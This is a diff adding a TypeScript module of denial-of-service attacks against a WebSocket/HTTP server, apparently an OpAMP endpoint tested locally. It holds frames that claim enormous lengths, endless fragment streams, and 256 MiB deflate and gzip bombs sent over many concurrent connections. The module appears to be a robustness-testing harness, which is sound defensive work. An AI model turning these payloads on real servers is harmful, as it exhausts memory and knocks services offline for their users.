@@ -1,0 +1,72 @@
+import { constants, deflateRawSync, gzipSync } from "node:zlib";
+import { type Attack, keepUp, openSocket, openWebSocket, pour } from "./attack.ts";
+
+const AT_ONCE = 20;
+const MASK = [0, 0, 0, 0];
+const ZEROS = Buffer.alloc(64 * 1024);
+const BOMB_BYTES = 256 * 2 ** 20;
+
+/** Frames that say that they are huge, and go on; and messages of ever more fragments. */
+export const hugeFrames: Attack = {
+  name: "huge frames",
+  async run(target) {
+    const kinds = [
+      // 4 EB, announced at once.
+      { start: [0x82, 0xff, 0x40, 0, 0, 0, 0, 0, 0, 0, ...MASK], rest: ZEROS },
+      // 3 MiB, which is less than the limit of some servers.
+      { start: [0x82, 0xff, 0, 0, 0, 0, 0, 0x30, 0, 0, ...MASK], rest: ZEROS },
+      { start: [0x02, 0x80, ...MASK], rest: fragment() },
+    ];
+    await Promise.all(
+      kinds.map(({ start, rest }) =>
+        keepUp(target, {
+          atOnce: Math.ceil(AT_ONCE / kinds.length),
+          act() {
+            const socket = openWebSocket(target);
+            socket.write(Uint8Array.from(start));
+            void pour(socket, rest);
+            return socket;
+          },
+        }),
+      ),
+    );
+  },
+};
+
+/** Little that becomes much: 256 MiB of zeros, over both transports. */
+export const deflateBombs: Attack = {
+  name: "deflate bombs",
+  async run(target) {
+    const zeros = Buffer.alloc(BOMB_BYTES);
+    const deflated = deflateRawSync(zeros, { finishFlush: constants.Z_SYNC_FLUSH });
+    const zipped = gzipSync(zeros);
+    const post = `POST /v1/opamp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-protobuf\r\nContent-Encoding: gzip\r\nContent-Length: ${zipped.length}\r\n\r\n`;
+    const bombs = [
+      { open: openWebSocket, bytes: Buffer.concat([compressedHeader(deflated.length), deflated]) },
+      { open: openSocket, bytes: Buffer.concat([Buffer.from(post), zipped]) },
+    ];
+    await Promise.all(
+      bombs.map(({ open, bytes }) =>
+        keepUp(target, {
+          atOnce: AT_ONCE / bombs.length,
+          act() {
+            const socket = open(target).resume();
+            socket.write(bytes);
+            return socket;
+          },
+        }),
+      ),
+    );
+  },
+};
+
+function fragment(): Buffer {
+  const header = Buffer.from([0x00, 0xfe, 0xff, 0xff, ...MASK]);
+  return Buffer.concat([header, Buffer.alloc(0xffff)]);
+}
+
+function compressedHeader(length: number): Buffer {
+  const header = Buffer.from([0xc2, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, ...MASK]);
+  header.writeBigUInt64BE(BigInt(length), 2);
+  return header;
+}
